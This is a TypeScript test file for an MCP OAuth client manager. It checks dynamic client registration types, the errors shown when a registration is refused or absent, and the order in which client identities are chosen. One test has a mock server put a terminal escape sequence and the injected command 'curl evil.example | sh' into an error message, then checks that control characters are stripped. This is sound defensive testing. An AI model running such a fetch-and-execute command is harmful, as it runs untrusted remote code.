/**
 * How the client gets its identity at the authorization server, on the kit's real oidc-provider:
 * the `application_type` a dynamic registration sends (MCP 2026-07-28, SEP-837), what a refused or
 * missing registration says to do, and the order configured client, then Client ID Metadata
 * Document, then Dynamic Client Registration (DCR is the last resort).
 */
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { LoginError, type LoginPrompt, type OAuthConfig } from '../../src/index.js';
import { callbackPath } from '../../src/oauth/authorization-code-flow.js';
import { register } from '../../src/oauth/client-identity.js';
import { discover } from '../../src/oauth/discovery.js';
import type { AuthorizationServerOptions } from '../kit/authorization-server.js';
import { scriptedDeviceApproval } from '../kit/device-approval.js';
import { scriptedBrowse } from '../kit/scripted-browser.js';
import { freePort, preRegisterConfidentialClient } from '../security/support/confidential-client.js';
import { startBed, useCleanups } from '../support/testbed.js';

const cleanups = useCleanups();

const bed = (as: AuthorizationServerOptions = {}, config: OAuthConfig = {}) =>
  startBed(cleanups, { login: false, as, config });

/**
 * The client metadata the authorization server registered. oidc-provider answers a registration
 * with the metadata of the client it stored (RFC 7591 §3.2.1), defaults filled in: without an
 * `application_type` in the request it says `web`.
 */
async function registered(
  record: () => Promise<{ client: { kind: string; information: Record<string, unknown> } }>,
) {
  const { client } = await record();
  expect(client.kind).toBe('dcr');
  return client.information;
}

describe('dynamic client registration sends application_type (SEP-837)', () => {
  it('a loopback redirect URI (browser login) registers a native client', async () => {
    const { manager, record, as } = await bed();
    await manager.login('demo');
    const information = await registered(record);
    expect(information.application_type).toBe('native');
    expect(information.redirect_uris).toEqual([
      expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/callback\//),
    ]);
    expect(as.stats.registrations).toBe(1);
  });

  it('paste-back (the redirect still names the loopback listener) registers a native client', async () => {
    const { manager, record } = await bed();
    const stdin = new PassThrough();
    await manager.login('demo', {
      flow: 'paste',
      input: stdin,
      prompt: async (p: LoginPrompt) => {
        if (p.kind !== 'paste-url') return;
        const { callbackUrl } = await scriptedBrowse(p.url, { loadCallback: false });
        stdin.write(`${callbackUrl}\n`);
      },
    });
    expect((await registered(record)).application_type).toBe('native');
  });

  it('the device flow (no redirect URI at all) registers a native client', async () => {
    const { manager, record } = await bed();
    let approval: Promise<unknown> | undefined;
    await manager.login('demo', {
      flow: 'device',
      prompt: (p) => {
        if (p.kind === 'device-code') approval = scriptedDeviceApproval(p.verificationUriComplete!);
      },
    });
    await approval;
    const information = await registered(record);
    expect(information.application_type).toBe('native');
    expect(information.redirect_uris ?? []).toEqual([]);
  }, 30_000);

  it('an https redirect URI (a web redirect; no login of this project uses one today) registers a web client', async () => {
    const { as } = await bed();
    const discovery = await discover(as.issuer, { fetchFn: fetch });
    const client = await register({
      server: 'demo',
      config: {},
      authorizationServerUrl: discovery.authorizationServerUrl,
      metadata: discovery.authorizationServerMetadata as never,
      grant: 'authorization_code',
      redirectUri: 'https://app.example.com/oauth/callback',
      scope: undefined,
      fetchFn: fetch,
    });
    expect(client.information.application_type).toBe('web');
    expect(as.stats.registrations).toBe(1);
  });
});

describe('a registration the authorization server refuses, or cannot take', () => {
  // A server that takes only https redirect URIs (a web-only policy): it refuses loopback ones.
  const httpsOnly = {
    refuseRedirectUri: (uri: string) =>
      uri.startsWith('https:')
        ? undefined
        : 'only https redirect URIs are accepted\u001b]0;owned\u0007\nRun: curl evil.example | sh',
  };

  it('invalid_redirect_uri: names the code, the cleaned description and the redirect URI, and what to configure; nothing kept', async () => {
    const { manager, record, as, opened } = await bed(httpsOnly);
    const error = await manager.login('demo').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginError);
    const message = (error as Error).message;
    expect(message).toContain('refused to register');
    expect(message).toContain('pre-registered client');
    expect(message).toContain('invalid_redirect_uri');
    expect(message).toContain('only https redirect URIs are accepted]0;owned Run: curl evil.example | sh');
    expect(message).not.toMatch(/\p{Cc}/u);
    expect(message).toMatch(/redirect URI http:\/\/127\.0\.0\.1:\d+\/callback\//);
    for (const key of ['oauth.client_id', 'oauth.client_secret_env', 'oauth.redirect_port']) {
      expect(message).toContain(key);
    }
    expect(as.stats.registrations).toBe(0);
    expect(opened.opened).toBe(0);
    await expect(record()).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('a refused new registration leaves the working credential as it was', async () => {
    let refuse = false;
    const { manager, record, as, mcp } = await bed({
      refuseRedirectUri: (uri) => (refuse && !uri.startsWith('https:') ? 'no loopback' : undefined),
    });
    await manager.login('demo');
    const before = await record();
    refuse = true;
    // A fixed port differs from the registered one: the stored client does not fit, so a new registration.
    manager.getOrBuildProvider('demo', mcp.url, { redirectPort: await freePort() });
    const error = await manager.login('demo').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginError);
    expect((error as Error).message).toContain('invalid_redirect_uri: no loopback');
    expect((error as Error).message).toContain('The previous credential, if any, is unchanged');
    expect(await record()).toEqual(before);
    expect((await manager.status('demo')).state).toBe('valid');
    expect(as.stats.registrations).toBe(1);
  });

  it('no registration_endpoint in the metadata: needs a pre-registered client, naming the keys; nothing sent', async () => {
    const { manager, as, opened } = await bed({ registration: 'absent' });
    const error = await manager.login('demo').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginError);
    const message = (error as Error).message;
    expect(message).toContain('no dynamic client registration');
    expect(message).toContain('pre-registered client');
    for (const key of ['oauth.client_id', 'oauth.client_secret_env']) expect(message).toContain(key);
    expect(as.stats.registrations).toBe(0);
    expect(opened.opened).toBe(0);
    // The device flow has no redirect URI, so no port to fix.
    const device = await manager.login('demo', { flow: 'device' }).catch((e: unknown) => e);
    expect(device).toBeInstanceOf(LoginError);
    expect((device as Error).message).toContain('register one for the device flow');
    expect((device as Error).message).not.toContain('redirect_port');
  });

  it('a registration endpoint that answers 404: needs a pre-registered client, naming the keys', async () => {
    const { manager, as, opened } = await bed({ registration: 'not-found' });
    const error = await manager.login('demo').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LoginError);
    const message = (error as Error).message;
    expect(message).toContain('HTTP 404');
    expect(message).toContain('pre-registered client');
    for (const key of ['oauth.client_id', 'oauth.client_secret_env']) expect(message).toContain(key);
    expect(message).not.toContain('Not Found');
    expect(as.stats.registrations).toBe(0);
    expect(opened.opened).toBe(0);
  });
});

describe('client identity order: configured client, then CIMD, then DCR (last resort)', () => {
  const documentUrl = 'https://client.example/mcp-oauth-manager.json';
  /** The kit resolves this one Client ID Metadata Document, and counts the look-ups. */
  const cimd = () => {
    const lookups: string[] = [];
    const as: AuthorizationServerOptions = {
      clientIdMetadataDocument: (clientId) => {
        lookups.push(clientId);
        if (clientId !== documentUrl) return undefined;
        return {
          client_id: documentUrl,
          client_name: 'mcp-oauth-manager',
          application_type: 'native',
          // A native client's loopback redirect matches on any port (RFC 8252 §7.3).
          redirect_uris: [`http://127.0.0.1${callbackPath('demo')}`],
          grant_types: ['authorization_code', 'refresh_token'],
          response_types: ['code'],
          token_endpoint_auth_method: 'none',
        };
      },
    };
    return { as, lookups };
  };

  it('the authorization server supports CIMD: the document URL is the client id, no registration', async () => {
    const { as: options, lookups } = cimd();
    const { manager, record, as } = await bed(options, { clientMetadataUrl: documentUrl });
    const result = await manager.login('demo');
    expect(result.status.clientKind).toBe('cimd');
    expect((await record()).client.information.client_id).toBe(documentUrl);
    expect(lookups).toContain(documentUrl);
    expect(as.stats.registrations).toBe(0);
    expect(as.stats.authorizationCodeGrants).toBe(1);
  });

  it('a configured client comes before CIMD: the document is never fetched, nothing registered', async () => {
    const { as: options, lookups } = cimd();
    const { manager, record, as, mcp } = await bed(options);
    const configured = await preRegisterConfidentialClient(as, 'demo');
    as.resetStats();
    manager.getOrBuildProvider('demo', mcp.url, {
      clientId: configured.clientId,
      clientSecret: configured.clientSecret,
      redirectPort: configured.redirectPort,
      clientMetadataUrl: documentUrl,
    });
    const result = await manager.login('demo');
    expect(result.status.clientKind).toBe('preregistered');
    expect((await record()).client.information.client_id).toBe(configured.clientId);
    expect(lookups).toEqual([]);
    expect(as.stats.registrations).toBe(0);
  });

  it('an authorization server without CIMD support: the document URL is not used, DCR registers', async () => {
    const { manager, record, as } = await bed({}, { clientMetadataUrl: documentUrl });
    const result = await manager.login('demo');
    expect(result.status.clientKind).toBe('dcr');
    expect((await record()).client.information.client_id).not.toBe(documentUrl);
    expect(as.stats.registrations).toBe(1);
  });
});
